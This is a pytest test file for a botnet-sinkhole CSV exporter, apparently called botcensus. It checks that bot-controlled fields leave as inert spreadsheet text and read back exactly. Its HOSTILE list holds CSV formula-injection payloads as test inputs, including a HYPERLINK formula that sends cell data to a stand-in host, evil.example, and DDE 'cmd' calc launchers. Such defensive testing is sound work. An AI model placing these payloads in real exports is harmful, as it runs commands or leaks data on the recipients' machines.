"""CSV formula injection: bot-controlled Host / User-Agent / path and feed cells leave as text
a spreadsheet will not run (OWASP), read back exactly with real CSV readers (Python's csv
module, DuckDB, pyarrow), and a hostile Host never corrupts the URL column."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.csv as pacsv
import pytest
from click.testing import CliRunner
from feed_cases import CASES, fake_enrich
from hypothesis import given
from hypothesis import strategies as st

from botcensus.cli import main
from botcensus.export import ExportQuery, export_events
from botcensus.export.cells import TRIGGERS, original, safe_cell
from botcensus.feeds import ingest
from botcensus.store import roll_segment

T0_US = 1_714_521_600_000_000  # 2024-05-01T00:00:00Z
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    'a","=1+1',
    "x\r\n=1+1",
    "=1+1\n",
]
HARMLESS = ["cnc.example", "Mozilla/4.0 (compatible; MSIE 7.0)", "'quoted'", "a=b", "1-2"]


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_safe_cell_is_text_to_a_spreadsheet_and_reversible(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str)
    assert not cell or cell[0] not in TRIGGERS
    assert original(cell) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, 5, -3, 2.5, True])
def test_non_text_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def _check_cells(rows: list[list[str]], width: int) -> None:
    assert rows
    for row in rows:
        assert len(row) == width
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS, (cell, row)


@pytest.fixture
def hostile_sinkhole(
    tmp_path: Path, make_event: Callable[..., list[Any]], make_segment: Callable[..., Path]
) -> Path:
    """One rustock check-in per hostile value, in Host, User-Agent and the path."""
    rows = [
        make_event(
            time_received=T0_US + i * 1_000_000, source_ip=f"5.14.3.{i + 1}", host=value,
            user_agent=value, path="/" + value if i % 2 else value, bot_id=value,
            malware_family="rustock",
        )
        for i, value in enumerate(HOSTILE)
    ]  # fmt: skip
    data = tmp_path / "data"
    roll_segment(make_segment(data / "wal" / "w00-a-000001.wal", [rows]), data)
    return data


def _shadowserver(data: Path) -> str:
    out = io.BytesIO()
    export_events(data, ExportQuery(include_unclaimed=True), "shadowserver", out, fake_enrich)
    return out.getvalue().decode()


def test_shadowserver_export_of_hostile_sinkhole_cells_reads_back_as_text(
    hostile_sinkhole: Path, tmp_path: Path
) -> None:
    text = _shadowserver(hostile_sinkhole)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    _check_cells(body, len(header))
    host, agent = header.index("http_host"), header.index("http_agent")
    assert [original(r[host]) for r in body] == HOSTILE
    assert [original(r[agent]) for r in body] == HOSTILE
    path = tmp_path / "export.csv"
    path.write_text(text, newline="")
    got = duckdb.sql(
        "SELECT http_host FROM read_csv(?, header = true, all_varchar = true, quote = '\"')",
        params=[str(path)],
    ).fetchall()
    assert [original(h) for (h,) in got] == HOSTILE
    table = pacsv.read_csv(path, convert_options=pacsv.ConvertOptions(strings_can_be_null=False))
    assert [original(h) for h in table["http_agent"].to_pylist()] == HOSTILE


def _hostile_report(tmp_path: Path) -> Path:
    """A Shadowserver HTTP report whose bot-controlled cells are hostile."""
    source = CASES / "2024-05-02-event4_sinkhole_http-truncated.csv"
    rows = list(csv.reader(io.StringIO(source.read_text(encoding="utf-8"), newline="")))
    header, template = rows[0], rows[1]
    out = [header]
    cases = [
        ("evil.example/fake/path", "/gate.php?id=1", HOSTILE[0]),
        ('=HYPERLINK("http://e")', "/g", HOSTILE[1]),
        ("a.example?x=", "/gate.php", HOSTILE[2]),
        ("h.example", "/index.php", HOSTILE[3]),
    ]
    for i, (host, url, agent) in enumerate(cases):
        row = list(template)
        row[header.index("src_ip")] = f"103.196.1.{i + 10}"
        row[header.index("http_host")] = host
        row[header.index("http_url")] = url
        row[header.index("http_agent")] = agent
        row[header.index("infection")] = HOSTILE[4 + i]
        out.append(row)
    path = tmp_path / "2024-05-02-event4_sinkhole_http-hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f, quoting=csv.QUOTE_ALL).writerows(out)
    return path


def test_shadowserver_export_of_hostile_feed_cells_reads_back_as_text(tmp_path: Path) -> None:
    data = tmp_path / "data"
    report = ingest([_hostile_report(tmp_path)], data, fake_enrich)
    assert report.total("stored") == 4
    rows = list(csv.reader(io.StringIO(_shadowserver(data), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 4
    _check_cells(body, len(header))
    agent = header.index("http_agent")
    assert sorted(original(r[agent]) for r in body) == sorted(HOSTILE[:4])


def test_a_hostile_http_host_does_not_corrupt_the_url_column(tmp_path: Path) -> None:
    data = tmp_path / "data"
    ingest([_hostile_report(tmp_path)], data, fake_enrich)
    rows = list(csv.DictReader(io.StringIO(_shadowserver(data), newline="")))
    by_ip = {r["src_ip"]: r for r in rows}
    assert by_ip["103.196.1.10"]["http_url"] == "/gate.php?id=1"
    assert by_ip["103.196.1.11"]["http_url"] == "/g"
    assert by_ip["103.196.1.12"]["http_url"] == "/gate.php"
    assert (by_ip["103.196.1.13"]["http_url"], by_ip["103.196.1.13"]["http_host"]) == (
        "/index.php",
        "h.example",
    )


def test_cli_events_csv_and_export_are_safe(hostile_sinkhole: Path) -> None:
    runner = CliRunner()
    for args in (
        ["events", "--data", str(hostile_sinkhole), "--format", "csv"],
        [
            "export",
            "--data",
            str(hostile_sinkhole),
            "--format",
            "shadowserver",
            "--include-unclaimed",
        ],
    ):
        result = runner.invoke(main, args)
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
        _check_cells(rows[1:], len(rows[0]))
        assert len(rows) == len(HOSTILE) + 1


@given(st.text())
def test_any_text_leaves_as_a_text_cell_and_comes_back(value: str) -> None:
    cell = safe_cell(value)
    assert not cell or cell[0] not in TRIGGERS
    assert original(cell) == value
